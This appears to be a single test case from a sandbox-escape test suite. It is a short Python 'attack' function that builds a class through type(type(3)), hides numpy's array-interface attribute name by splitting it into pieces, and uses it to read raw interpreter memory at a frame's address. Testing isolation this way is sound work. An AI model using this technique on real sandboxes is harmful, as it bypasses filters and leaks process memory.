# attack: make a class with computed special attributes by the type of a type
# class: interpreter walk
# wall: separate_process

import numpy as np


def attack(frame, frame_index, config):
    maker = type(type(3))
    fields = {"shape": (8,), "typestr": "|u1", "data": (id(frame), False), "version": 3}
    view = np.asarray(maker("X", (), {"_" + "_array_interface_" + "_": fields})())
    return f"inside: {bytes(view).hex()}"
